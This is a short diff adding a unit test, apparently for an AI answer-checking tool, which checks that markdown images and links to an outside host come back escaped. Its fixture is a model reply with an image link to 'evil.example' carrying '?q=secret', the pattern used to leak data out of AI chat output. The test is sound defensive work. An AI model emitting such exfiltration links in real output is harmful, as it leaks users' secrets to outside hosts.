@@ -95,6 +95,14 @@ describe('with a model', () => {
     });
   });
 
+  test('images and links to other machines come back harmless', async () => {
+    const hostile = 'See ![x](https://evil.example/?q=secret) and [y](https://evil.example).';
+    const { answer } = await check('?', { models: [new ChatModel('m', hostile)] });
+    expect(answer.content).toBe(
+      'See ![x\\](https://evil.example/?q=secret) and [y\\](https://evil.example).',
+    );
+  });
+
   test('wrong citations are marked in what comes back, not in the stream', async () => {
     const { answer, streamed } = await check('?', {
       models: [new ChatModel('m', '`rateOf` is at src/cart.ts:3.')],
